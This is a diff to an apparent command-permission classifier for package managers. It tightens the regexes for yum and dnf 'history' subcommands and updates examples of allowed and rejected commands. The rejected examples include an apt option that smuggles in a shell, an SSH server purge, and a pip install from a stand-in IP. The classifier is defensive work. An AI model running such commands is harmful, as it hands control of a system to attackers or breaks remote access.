@@ -16,8 +16,8 @@ const reads: Record<string, RegExp> = {
   dpkg: /^(-[lLSsVpC]|--(list|listfiles|search|status|verify|audit|print-avail|get-selections|print-architecture|version|compare-versions|info|contents)|-[Ic])( |$)/,
   "dpkg-query": /^(-[WlLSsf]|--(show|list|listfiles|search|status|showformat.*))/,
   rpm: /^(-q\w*|--query|-V\w*|--verify|--version|--eval_x|-qa|-K|--checksig)( |$)/,
-  yum: /^(-\w+ )*(list|info|search|history( list| info)?|repolist|provides|whatprovides|check-update|deplist|grouplist|updateinfo|check|--version)( |$)/,
-  dnf: /^(-\w+ )*(list|info|search|history( list| info)?|repolist|provides|whatprovides|check-update|deplist|repoquery|updateinfo|check|module list|--version)( |$)/,
+  yum: /^(-\w+ )*(list|info|search|history( (list|info|summary|stats|addon-info|packages?-(list|info)))?(?= \d| --?\w| last|$)|repolist|provides|whatprovides|check-update|deplist|grouplist|updateinfo|check|--version)( |$)/,
+  dnf: /^(-\w+ )*(list|info|search|history( (list|info|userinstalled))?(?= \d| --?\w| last|$)|repolist|provides|whatprovides|check-update|deplist|repoquery|updateinfo|check|module list|--version)( |$)/,
   zypper:
     /^(-\w+ |--\S+ )*(se|search|if|info|lr|repos|lu|list-updates|pa|packages|ps|lp|wp|what-provides|locks)( |$)/,
   pacman: /^-(Q\w*|Ss|Si|F[lsx]*)( |$)/,
@@ -125,8 +125,8 @@ export const packages: Family = {
       closed: "options",
       check: packageManager,
       examples: ex(
-        "apt list --installed ¦ dpkg -l ¦ rpm -qa ¦ apt-cache policy nginx ¦ pip list ¦ yum history ¦ apt-get -s upgrade",
-        "apt-get install nginx ¦ yum update ¦ npm install ¦ pip install x",
+        "apt list --installed ¦ dpkg -l ¦ rpm -qa ¦ apt-cache policy nginx ¦ pip list ¦ yum history ¦ dnf history info 4 ¦ dnf history list --reverse ¦ apt-get -s upgrade",
+        "apt-get install nginx ¦ dnf history replay a.json ¦ yum history sync ¦ dnf history store 4 ¦ yum update ¦ npm install ¦ pip install x",
         "apt-get -o APT::Update::Pre-Invoke::=sh update ¦ apt-get purge openssh-server ¦ pip install http://203.0.113.1/x.tgz",
       ),
     },
